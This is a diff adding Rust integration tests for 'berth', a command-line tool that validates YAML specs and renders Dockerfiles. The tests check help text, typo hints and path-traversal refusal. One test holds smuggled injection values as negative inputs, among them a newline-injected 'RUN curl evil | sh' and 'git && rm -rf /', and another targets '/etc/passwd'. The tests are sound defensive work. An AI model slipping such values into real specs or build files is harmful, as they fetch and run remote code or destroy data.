@@ -1,0 +1,141 @@
+//! The `berth` binary as a user runs it: help that teaches, names, Dockerfiles, and errors a person can act on.
+
+use std::path::Path;
+
+use berth_tests::berth;
+
+fn write(dir: &Path, name: &str, text: &str) {
+    let path = dir.join(name);
+    if let Some(parent) = path.parent() {
+        std::fs::create_dir_all(parent).expect("create folder");
+    }
+    std::fs::write(path, text).expect("write file");
+}
+
+fn run(dir: &Path, args: &[&str]) -> (i32, String, String) {
+    let out = berth(dir, args);
+    (
+        out.status.code().expect("exit code"),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+#[test]
+fn help_explains_with_examples() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let (code, out, _) = run(dir.path(), &["--help"]);
+    assert_eq!(code, 0);
+    assert!(out.contains("Examples:") && out.contains("berth name spec.yaml"), "{out}");
+    for sub in ["name", "render"] {
+        let (code, out, _) = run(dir.path(), &[sub, "--help"]);
+        assert_eq!(code, 0);
+        assert!(out.contains(&format!("berth {sub} spec.yaml")), "{sub} --help lacks an example:\n{out}");
+    }
+}
+
+#[test]
+fn a_typo_names_file_line_column_and_the_nearest_field() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    write(dir.path(), "spec.yaml", "name: app\npakages: [numpy]\n");
+    let (code, out, err) = run(dir.path(), &["name", "spec.yaml"]);
+    assert_eq!(code, 2, "{err}");
+    assert!(out.is_empty());
+    assert!(err.contains("spec.yaml:2:1"), "{err}");
+    assert!(err.contains("unknown field `pakages`; did you mean `packages`?"), "{err}");
+}
+
+#[test]
+fn an_unquoted_python_version_gets_a_hint_to_quote_it() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    write(dir.path(), "spec.yaml", "name: app\npython_version: 3.10\n");
+    let (code, _, err) = run(dir.path(), &["name", "spec.yaml"]);
+    assert_eq!(code, 2);
+    assert!(err.contains("spec.yaml:2:17"), "{err}");
+    assert!(err.contains("`python_version`") && err.contains("3.1") && err.contains("quote it"), "{err}");
+}
+
+#[test]
+fn copy_entries_cannot_leave_the_spec_folder() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    write(dir.path(), "outside.txt", "secret");
+    write(dir.path(), "proj/ok.txt", "fine");
+    std::os::unix::fs::symlink(dir.path().join("outside.txt"), dir.path().join("proj/link.txt")).expect("symlink");
+    for (entry, expect) in [
+        ("../outside.txt", "without `..`"),
+        ("/etc/passwd", "not absolute"),
+        ("link.txt", "through a symlink"),
+    ] {
+        write(dir.path(), "proj/spec.yaml", &format!("name: app\ncopy: [\"{entry}\"]\n"));
+        let (code, _, err) = run(dir.path(), &["name", "proj/spec.yaml"]);
+        assert_eq!(code, 2, "{entry}: {err}");
+        assert!(err.contains(expect), "{entry}: {err}");
+    }
+}
+
+#[test]
+fn values_that_would_inject_dockerfile_instructions_are_refused() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    for (spec, field) in [
+        ("env: {A: \"x\\nRUN curl evil | sh\"}", "env"),
+        ("commands: [\"echo hi \\\\\"]", "commands"),
+        ("apt_packages: [\"git && rm -rf /\"]", "apt_packages"),
+        ("packages: [\"numpy\\nRUN evil\"]", "packages"),
+        ("python_exec: \"/usr/bin/python3 && evil\"", "python_exec"),
+        ("base_image: \"debian\\nRUN evil\"", "base_image"),
+    ] {
+        write(dir.path(), "spec.yaml", &format!("name: app\n{spec}\n"));
+        let (code, out, err) = run(dir.path(), &["render", "spec.yaml"]);
+        assert_eq!(code, 2, "{spec}: {out}{err}");
+        assert!(err.contains(&format!("`{field}`")), "{spec}: {err}");
+        assert!(out.is_empty(), "{spec}: nothing may be rendered: {out}");
+    }
+}
+
+#[test]
+fn source_root_without_a_copy_mode_is_refused_with_what_to_use() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    write(dir.path(), "src/app.py", "print(1)\n");
+    write(dir.path(), "spec.yaml", "name: app\nsource_root: src\n");
+    let (code, _, err) = run(dir.path(), &["name", "spec.yaml"]);
+    assert_eq!(code, 2);
+    assert!(err.contains("LOADED_MODULES") && err.contains("source_copy_mode: 2"), "{err}");
+}
+
+#[test]
+fn render_builds_on_a_nested_spec_by_its_name() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    write(dir.path(), "base.yaml", "name: base\nregistry: 127.0.0.1:5000/t\npython_exec: /usr/bin/python3\n");
+    write(dir.path(), "app.yaml", "name: app\nbase_image: {spec: base.yaml}\npython_exec: /usr/bin/python3\n");
+    let (code, base_name, err) = run(dir.path(), &["name", "base.yaml"]);
+    assert_eq!(code, 0, "{err}");
+    let (code, dockerfile, err) = run(dir.path(), &["render", "app.yaml"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(dockerfile.contains(&format!("\nFROM {}\n", base_name.trim())), "{dockerfile}");
+    assert!(dockerfile.trim_end().ends_with(&format!("ENV _F_IMG_ID=\"{}\"", last_id(&dockerfile))));
+}
+
+fn last_id(dockerfile: &str) -> String {
+    let line = dockerfile.lines().last().expect("a line");
+    line.trim_start_matches("ENV _F_IMG_ID=\"").trim_end_matches('"').to_string()
+}
+
+#[test]
+fn render_lists_the_context() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    write(dir.path(), "data/a.txt", "a");
+    write(dir.path(), "data/sub/b.txt", "b");
+    write(dir.path(), "spec.yaml", "name: app\npython_exec: python3\ncopy: [data]\npackages: [six]\n");
+    let (code, out, err) = run(dir.path(), &["render", "--context", "spec.yaml"]);
+    assert_eq!(code, 0, "{err}");
+    let paths: Vec<&str> = out.lines().map(|l| l.split('\t').next().unwrap_or("")).collect();
+    assert_eq!(paths, ["requirements_uv.txt", "data/a.txt", "data/sub/b.txt"]);
+}
+
+#[test]
+fn a_missing_spec_says_which_file() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let (code, _, err) = run(dir.path(), &["name", "nope.yaml"]);
+    assert_eq!(code, 2);
+    assert!(err.contains("nope.yaml"), "{err}");
+}
